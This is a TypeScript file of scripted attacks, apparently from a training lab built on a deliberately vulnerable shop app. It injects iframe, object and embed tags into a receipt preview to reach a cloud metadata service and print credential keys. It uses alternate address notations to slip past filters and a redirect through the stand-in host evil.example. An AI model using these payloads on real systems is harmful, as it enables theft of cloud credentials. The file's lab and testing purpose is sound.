import type { Attack } from '#lab'
import { CREDENTIALS, METADATA, orderAsJim, preview, printKeys, redirectTo, whileHosted } from './steps.ts'

const challenge = 'receiptExtrasChallenge'

const attack = (name: string, note: string): Attack => ({
  challenge,
  name,
  run: async (tools) => printKeys(tools, await orderAsJim(tools), note),
})

export const attacks: Attack[] = [
  {
    challenge,
    name: 'a frame with the list of roles, and then one with the keys of that role',
    run: async (tools) => {
      const buyer = await orderAsJim(tools)
      const { text } = await preview(tools, buyer, `<iframe src="${METADATA}"></iframe>`)
      const role = text.trim().split('\n').at(-1) ?? ''
      tools.expect(/^[\w-]+$/.test(role), 'the cloud names no role')
      await printKeys(tools, buyer, `<iframe src="${METADATA}${role}"></iframe>`)
    },
  },
  attack(
    'an object, and the address in another notation',
    `<object data="http://[::ffff:a9fe:a9fe]${CREDENTIALS}juice-stand"></object>`,
  ),
  attack(
    'an embedded page, and the address as one number',
    `<embed src="http://2852039166${CREDENTIALS}juice-stand">`,
  ),
  attack(
    'a frame, and the service by its name',
    `<iframe src="http://metadata.cloud.internal${CREDENTIALS}juice-stand">`,
  ),
  {
    challenge,
    name: 'a frame with a page of one’s own that redirects there',
    run: async (tools) => {
      const page = { host: 'evil.example', path: '/receipt', ...redirectTo(`${METADATA}juice-stand`) }
      const buyer = await orderAsJim(tools)
      await whileHosted(tools, page, () =>
        printKeys(tools, buyer, '<iframe src="http://evil.example/receipt"></iframe>'),
      )
    },
  },
]
